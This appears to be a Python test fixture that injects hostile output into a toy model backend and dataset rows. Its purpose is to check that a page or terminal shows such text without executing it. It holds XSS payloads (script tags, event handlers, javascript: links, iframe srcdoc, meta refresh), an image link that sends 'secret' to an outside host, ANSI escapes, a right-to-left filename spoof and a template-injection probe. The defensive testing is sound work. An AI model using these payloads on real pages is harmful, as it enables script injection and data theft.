"""What a model or a data set may write that a page or a terminal must show and never obey."""

from __future__ import annotations

from typing import Any

from genopt.types import Generation, Request
from tests.toy import ToyBackend

SCRIPT = "<script>window.obeyed = 1</script>"
MARKUP = f'{SCRIPT}<img src="http://example.com/x.png" onerror="window.obeyed = 2"><style>body{{display:none}}</style>'
LINK = '<a href="javascript:window.obeyed = 3">here</a> [here](javascript:alert(1)) </pre></code></script>'
DRAWN = (
    '<svg onload="window.obeyed = 4"><animate onbegin="window.obeyed = 5" attributeName="x" dur="1s"/></svg>'
    '<iframe srcdoc="<script>parent.obeyed = 6</script>"></iframe><details open ontoggle="window.obeyed = 7">'
    '<math href="javascript:window.obeyed = 8">x</math><meta http-equiv="refresh" content="0;url=http://example.com/">'
)
NOTED = "![seen](http://example.com/y.png?q=secret) [![seen](http://example.com/z.png)](javascript:window.obeyed=9)"
TERMINAL = "\x1b[31mred\x1b[0m \u202egnp.exe"
SHOWN = "\\u001b[31mred\\u001b[0m \\u202egnp.exe"  # TERMINAL, as it is to be read
HOSTILE = f"{MARKUP} {LINK} {TERMINAL} {DRAWN} {NOTED} ``` | {{{{ 7 * 7 }}}} ]]> &amp;"


class HostileBackend(ToyBackend):
    """The toy engine with an attack before each of its answers."""

    async def _answer(self, request: Request, better: float) -> Generation:
        generation = await super()._answer(request, better)
        return Generation(HOSTILE + generation.text, "stop", 10, 5, 0.0)


def rows(count: int) -> list[dict[str, Any]]:
    """Rows with an attack in every place that is shown."""
    return [
        {"id": f"{i}<b>{SCRIPT}", "question": f"{i} {HOSTILE}", "answer": "yes", "document": f"{SCRIPT}{i // 3}"}
        for i in range(count)
    ]


def study_changes() -> dict[str, Any]:
    """What makes the toy study hostile: engine, rows, scorer, the name of a parameter's value."""
    return {
        "dataset": {"rows": rows(60), "holdout": 0.4, "reference": "answer", "group": "document", "id": "id"},
        "backend": {"kind": "tests.hostile:HostileBackend", "model": "toy"},
        "prompt": {"user": "{{ style }} {{ question }}"},
        "space": {"temperature": {"low": 0.1, "high": 1.5}, "style": {"choices": ["plain", SCRIPT, f"`|{LINK}"]}},
        "baseline": {"style": "plain"},
        "scorers": {"right": {"kind": "contains"}},
        "budget": {"trials": 12},
        "search": {"sampler": "random", "pruner": "none"},
    }
